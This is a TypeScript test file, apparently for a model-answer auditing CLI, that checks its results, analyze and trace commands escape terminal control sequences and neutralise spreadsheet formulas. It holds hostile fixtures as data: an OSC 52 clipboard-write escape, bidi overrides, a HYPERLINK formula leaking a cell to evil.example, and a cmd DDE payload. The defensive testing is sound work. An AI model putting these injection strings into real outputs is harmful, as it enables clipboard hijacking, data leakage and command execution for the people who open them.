// Hostile text on its way to a terminal or a spreadsheet: ids, model names, speakers, texts and URLs that carry
// terminal escapes (cursor moves, OSC 52 clipboard writes, one-byte C1 CSI, bidirectional overrides) or spreadsheet
// formulas. `analyze`, `results` and `trace` must print every one of them inert.
import { spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditWriter, createRun, openAuditStore, type PlannedRequest, type RunConfig } from '../../src/audit/store.js';
import { summarizeRun } from '../../src/audit/results.js';
import { summaryCsv, summaryText } from '../../src/audit/report.js';
import { insertStatements } from '../../src/corpus/ingest.js';
import { openCorpusStore } from '../../src/corpus/schema.js';
import { analyzeAnswer } from '../../src/analysis/pipeline.js';
import { renderTerminal } from '../../src/reporters/terminal.js';
import { safeJson, safeLine, safeText } from '../../src/reporters/terminal-safe.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const TSX = join(ROOT, 'node_modules', '.bin', 'tsx');

/** OSC 52 (write the clipboard), a screen clear, a one-byte CSI (C1 0x9b), a bell, a carriage return, a bidi override. */
const OSC52 = '\u001b]52;c;ZWNobyBwd25lZA==\u0007';
const HOSTILE = `${OSC52}\u001b[2J\u009b31m\r\u202eevil`;
/** Any raw control a terminal acts on: C0 but tab and newline, DEL, C1, bidirectional embeddings and overrides. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function run(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(TSX, [join(ROOT, 'src/cli/main.ts'), ...args], { cwd: ROOT, env: { ...process.env, NO_COLOR: '1', FORCE_COLOR: '0' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString('utf8')));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString('utf8')));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

const dir = mkdtempSync(join(tmpdir(), 'mouthpiece-hostile-'));
const MODEL = `=HYPERLINK("http://evil.example/?"&A1,"ok")${OSC52}`;
const RUN = 'hostile-run';

/** A stored run whose model name, prompt id and topic are hostile (a provider or a suite file chose them). */
async function hostileRun(path: string): Promise<void> {
  const store = await openAuditStore(path);
  const config: RunConfig = { baseUrl: 'http://127.0.0.1:9/v1', apiKeyEnv: null, temperature: null, maxTokens: null, system: null, stream: false, concurrency: 1, rpm: null, timeoutMs: 1000, retries: 0 };
  const requests: PlannedRequest[] = ['en', 'zh'].map((lang) => ({ model: MODEL, promptId: `p${HOSTILE}`, topic: `@SUM(1+1)*cmd|' /C calc'!A0`, style: 'neutral', lang, sample: 1, prompt: 'Q', expects: [] }));
  await createRun(store, { id: RUN, suite: 'hostile', suiteFile: 'hostile.yaml', models: [MODEL], langs: ['en', 'zh'], samples: 1, config }, requests);
  const write = auditWriter(store, 0);
  const ids = store.sqlite!.prepare('SELECT id FROM audit_requests WHERE run = ? ORDER BY id').all(RUN) as { id: number }[];
  ids.forEach(({ id }, i) =>
    write.result({
      request: id, run: RUN, outcome: i ? 'refusal' : 'state_echo', verdict: null, reason: null, answer: `answer ${HOSTILE}`, reasoning: null, findings: null,
      talkingPoints: JSON.stringify([{ id: `tp${HOSTILE}`, claim: `-claim ${HOSTILE}` }]), document: null, finishReason: 'stop', httpStatus: 200, route: null,
      latencyMs: 1, tokensIn: 1, tokensOut: 1, cost: null, attempts: 1, error: null,
    }),
  );
  await write.status(RUN, 'done');
  await store.close();
}

describe('terminal-safe text', () => {
  it('makes every control character a visible escape, keeps ordinary text and newlines', async () => {
    expect(safeText(`a${OSC52}b\nc\td`)).toBe('a\\x1b]52;c;ZWNobyBwd25lZA==\\x07b\nc\td');
    expect(safeLine('x\ny\u202ez\u009b')).toBe('x\\x0ay\\u202ez\\x9b');
    expect(safeText('新疆 «quoted» “curly” — ok')).toBe('新疆 «quoted» “curly” — ok');
    const json = JSON.stringify({ t: HOSTILE });
    expect(safeJson(json)).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(safeJson(json))).toEqual({ t: HOSTILE });
  });

  it('the terminal report of a document with hostile text, model, source and provenance', async () => {
    const doc = analyzeAnswer({ id: `doc${HOSTILE}`, answer: `The so-called allegations are lies spread by anti-China forces. ${HOSTILE}`, model: `m${HOSTILE}` });
    doc.source = `file${HOSTILE}.txt`;
    doc.warnings.push(`warning ${HOSTILE}`);
    const echo = doc.findings.find((f) => f.kind === 'echo');
    expect(echo).toBeTruthy();
    echo!.provenance = {
      earliest: { id: 1, speaker: `Speaker${HOSTILE}`, date: `2020${HOSTILE}`, text: `text ${HOSTILE}`, url: `https://x.example/${HOSTILE}`, lang: 'en', score: 1 },
      repeats: 2,
    } as never;
    for (const color of [false, true]) {
      const out = renderTerminal(doc, { color, all: true });
      // Our own colour codes are the only escapes left.
      expect(out.replace(/\u001b\[\d+m/g, '')).not.toMatch(RAW_CONTROL);
      expect(out).toContain('\\x1b]52;c;');
    }
  });
});

describe('results, analyze and trace print hostile values inert', () => {
  const db = join(dir, 'audit.db');
  const corpusDb = join(dir, 'corpus.db');
  const batch = join(dir, 'batch.jsonl');
  let outputs: Record<string, { code: number | null; stdout: string; stderr: string }>;
  beforeAll(async () => {
    hostileRun(db);
    const corpus = await openCorpusStore(corpusDb);
    await insertStatements(corpus, [
      {
        kind: 'answer', lang: 'en', date: '2019-11-26', speaker: `Geng Shuang${HOSTILE}`, role: 'state_official', url: `https://www.fmprc.gov.cn/${OSC52}`, title: 't',
        question: `Question ${HOSTILE}`, paragraphs: [`The so-called human rights issues in Xinjiang are lies fabricated by anti-China forces. ${HOSTILE}`], origin: 'test',
      },
    ]);
    corpus.close();
    writeFileSync(batch, JSON.stringify({ id: `id${HOSTILE}`, model: `model${HOSTILE}`, prompt: 'Q', answer: `The so-called allegations are lies spread by anti-China forces. ${HOSTILE}` }) + '\n');
    const entries = await Promise.all(
      Object.entries({
        resultsText: ['results', RUN, '--db', db],
        resultsJson: ['results', RUN, '--db', db, '--format', 'json'],
        resultsCsv: ['results', RUN, '--db', db, '--format', 'csv'],
        analyzeText: ['analyze', batch, '--all'],
        analyzeJsonl: ['analyze', batch, '--format', 'jsonl'],
        analyzeJson: ['analyze', batch, '--format', 'json'],
        traceText: ['trace', 'The so-called human rights issues in Xinjiang are lies fabricated by anti-China forces', '--db', corpusDb],
        traceJson: ['trace', 'The so-called human rights issues in Xinjiang are lies fabricated by anti-China forces', '--db', corpusDb, '--format', 'json'],
        missingRun: ['results', `nothing${OSC52}`, '--db', db],
      }).map(async ([name, args]) => [name, await run(args)] as const),
    );
    outputs = Object.fromEntries(entries);
  }, 120_000);

  it('no raw control character reaches stdout or stderr', async () => {
    for (const [name, r] of Object.entries(outputs)) {
      expect(r.stdout + r.stderr, name).not.toMatch(RAW_CONTROL);
    }
  });

  it('the values are still there, as visible escapes, and JSON still parses to the stored values', async () => {
    expect(outputs.resultsText.code).toBe(0);
    expect(outputs.resultsText.stdout).toContain('\\x1b]52;c;ZWNobyBwd25lZA==\\x07');
    expect(outputs.analyzeText.stdout).toContain('\\u202eevil');
    expect(outputs.traceText.code).toBe(0);
    expect(outputs.traceText.stdout).toContain('Geng Shuang\\x1b]52');
    expect(outputs.missingRun.stderr).toContain('nothing\\x1b]52');
    const summary = JSON.parse(outputs.resultsJson.stdout) as { byModel: Record<string, unknown> };
    expect(Object.keys(summary.byModel)).toEqual([MODEL]);
    expect((JSON.parse(outputs.analyzeJsonl.stdout.trim()) as { id: string }).id).toBe(`id${HOSTILE}`);
    const traced = JSON.parse(outputs.traceJson.stdout) as { speaker: string }[];
    expect(traced[0].speaker).toBe(`Geng Shuang${HOSTILE}`);
  });

  it('CSV cells that a spreadsheet would run as formulas are neutralised', async () => {
    expect(outputs.resultsCsv.code).toBe(0);
    const lines = outputs.resultsCsv.stdout.trim().split('\n');
    expect(lines.length).toBeGreaterThan(1);
    for (const line of lines.slice(1)) {
      // Every cell: none may start with = + - @ (or a tab or carriage return) once the quotes are taken off.
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(outputs.resultsCsv.stdout).toContain(`'=HYPERLINK(`);
    expect(outputs.resultsCsv.stdout).toContain(`'@SUM(1+1)`);
  });

  it('CSV from the library is neutralised too, whatever the caller prints', async () => {
    const store = await openAuditStore(db);
    const csv = summaryCsv(await summarizeRun(store, RUN));
    const text = summaryText(await summarizeRun(store, RUN));
    await store.close();
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    expect(text).not.toMatch(RAW_CONTROL);
  });
});
